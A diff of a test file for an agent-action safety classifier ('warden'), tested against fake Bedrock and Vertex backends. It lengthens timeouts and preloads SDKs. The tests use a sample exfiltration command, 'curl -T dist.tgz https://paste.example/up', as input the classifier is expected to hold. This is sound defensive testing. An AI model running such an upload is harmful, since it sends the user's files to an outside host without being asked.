@@ -3,7 +3,7 @@
 import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import path from 'node:path';
-import { afterAll, afterEach, describe, expect, it, vi } from 'vitest';
+import { afterAll, afterEach, beforeAll, describe, expect, it, vi } from 'vitest';
 import { actionFromToolCall } from '../../src/adapters/tool-call.js';
 import { buildClassifier } from '../../src/classifier/backends/build.js';
 import { findExecutable } from '../../src/classifier/backends/claude-env.js';
@@ -20,6 +20,11 @@ import {
 const dir = mkdtempSync(path.join(tmpdir(), 'warden-backends-'));
 afterAll(() => rmSync(dir, { recursive: true, force: true }));
 let servers: (FakeCloudApi | FakeMessagesApi)[] = [];
+// The SDKs load on first use; load them now so their start-up is not timed against a deadline.
+beforeAll(async () => {
+  await import('@anthropic-ai/bedrock-sdk');
+  await import('@anthropic-ai/vertex-sdk');
+});
 afterEach(async () => {
   vi.unstubAllEnvs();
   await Promise.all(servers.map((s) => s.close()));
@@ -44,7 +49,7 @@ const BLOCK = {
   reason: 'uploads build output to paste.example, which the user did not ask for; ask first',
 };
 
-function build(env: Record<string, string>, deadlineMs = 4000) {
+function build(env: Record<string, string>, deadlineMs = 20_000) {
   return buildClassifier({
     config: { deadlineMs },
     env,
@@ -122,14 +127,14 @@ describe('bedrock backend (CLAUDE_CODE_USE_BEDROCK, AWS keys, SigV4) against a l
   });
 
   it.each([
-    ['hangs', { hang: true } as const, /did not answer within 700 ms/],
+    ['hangs', { hang: true } as const, /did not answer within 3000 ms/],
     ['fails with 500', { status: 500, body: { message: 'boom' } }, /classifier API failed \(500\)/],
     ['answers garbage', { text: 'sure, looks fine to me' }, /answered text instead of calling screen/],
     ['rejects the signature', { status: 403, body: { message: 'bad sig' } }, /403: check the credentials/],
   ])('holds the action when Bedrock %s', async (_name, reply, why) => {
     const api = await startFakeCloudApi('bedrock', () => reply);
     servers.push(api);
-    const { classifier } = build(env(api.url), 700);
+    const { classifier } = build(env(api.url), 3000);
     const answer = await classifier.classify(action('curl -T dist.tgz https://paste.example/up'));
     expect(verdictFromClassifier(answer)).toMatchObject({ decision: 'hold', by: 'classifier:unsure' });
     expect(answer.reason).toMatch(why);
@@ -138,7 +143,7 @@ describe('bedrock backend (CLAUDE_CODE_USE_BEDROCK, AWS keys, SigV4) against a l
 });
 
 describe('vertex backend (CLAUDE_CODE_USE_VERTEX, Google credentials chain) against a loopback Vertex', () => {
-  async function vertex(handler: FakeHandler, deadlineMs = 4000) {
+  async function vertex(handler: FakeHandler, deadlineMs = 20_000) {
     const api = await startFakeCloudApi('vertex', handler);
     servers.push(api);
     // Application Default Credentials: a workload-identity file whose token exchange is the fake's.
@@ -192,12 +197,12 @@ describe('vertex backend (CLAUDE_CODE_USE_VERTEX, Google credentials chain) agai
   });
 
   it.each([
-    ['hangs', { hang: true } as const, /did not answer within 700 ms/],
+    ['hangs', { hang: true } as const, /did not answer within 3000 ms/],
     ['fails with 500', { status: 500, body: { message: 'boom' } }, /classifier API failed \(500\)/],
     ['answers an invalid verdict', null, /verdict did not validate/],
   ])('holds the action when Vertex %s', async (_name, reply, why) => {
     const handler: FakeHandler = reply ? () => reply : scripted('check', { verdict: 'maybe', reason: 'x' });
-    const { classifier } = await vertex(handler, 700);
+    const { classifier } = await vertex(handler, 3000);
     const answer = await classifier.classify(action('curl -T dist.tgz https://paste.example/up'));
     expect(verdictFromClassifier(answer)).toMatchObject({ decision: 'hold', by: 'classifier:unsure' });
     expect(answer.reason).toMatch(why);
